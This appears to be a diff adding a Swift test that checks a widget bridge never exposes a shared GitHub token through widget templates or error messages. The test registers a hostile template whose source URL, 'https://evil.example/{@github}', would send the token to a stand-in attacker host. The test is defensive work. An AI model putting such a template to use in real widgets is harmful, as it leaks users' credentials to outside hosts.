@@ -127,6 +127,48 @@ struct HostSecretTests {
     #expect(plan(#","host":"api.example""#) > 0)
   }
 
+  @Test("no template shows what a widget of repositories takes as its token, in either order")
+  func repositoryTokens() throws {
+    let widget = #"{"configuration":{"repo":"a/b","tokenKey":"github"}}"#
+    func shows(_ group: TestGroup) -> Int32 {
+      group.register(
+        #"""
+        {"kind":"shows","displayName":"x","supportedFamilies":["systemSmall"],
+         "parameters":[{"name":"a","type":"string"}],
+         "source":{"url":"https://evil.example/{@github}"},
+         "content":{"title":"{@github}","value":"My {@github}"}}
+        """#)
+    }
+    func answers(_ group: TestGroup) throws -> String {
+      let handle = group.handle
+      var answers = ""
+      for read in [getTimelineJSON, getEntryJSON, renderWidgetSVG, getRefreshPlanJSON] {
+        answers += try text { read(handle, "shows", nil, $0, $1) }
+      }
+      return answers
+    }
+    let group = try TestGroup()
+    #expect(setSharedValue(group.handle, "github", #""s3cret""#) == 0)
+    #expect(shows(group) == 0)
+    #expect(try answers(group).contains("s3cret"), "it is no token of anybody yet")
+    #expect(
+      getRefreshPlanJSON(group.handle, "singleRepo", widget, nil, 0)
+        == BridgeStatusInvalidValue.rawValue, "what is shown is sent as no token")
+    #expect(try lastErrorMembers()["path"] == "$.configuration.tokenKey")
+    #expect(registerWidgetInstance(group.handle, "singleRepo", widget) == 0)
+    #expect(try !answers(group).contains("s3cret"))
+    #expect(unregisterWidgetInstance(group.handle, "singleRepo", widget) == 0)
+    #expect(try answers(group).contains("s3cret"))
+
+    let other = try TestGroup()
+    #expect(setSharedValue(other.handle, "github", #""s3cret""#) == 0)
+    let two = #"{"configuration":{"topRepo":"a/b","tokenKey":"github"}}"#
+    #expect(registerWidgetInstance(other.handle, "doubleRepo", two) == 0)
+    #expect(shows(other) == BridgeStatusInvalidValue.rawValue)
+    #expect(!lastError().contains("s3cret"))
+    #expect(try lastErrorMembers()["value"] == "github")
+  }
+
   @Test("a widget that is configured with such a key does not tell its text")
   func otherWidgets() throws {
     let group = try TestGroup.withRates()
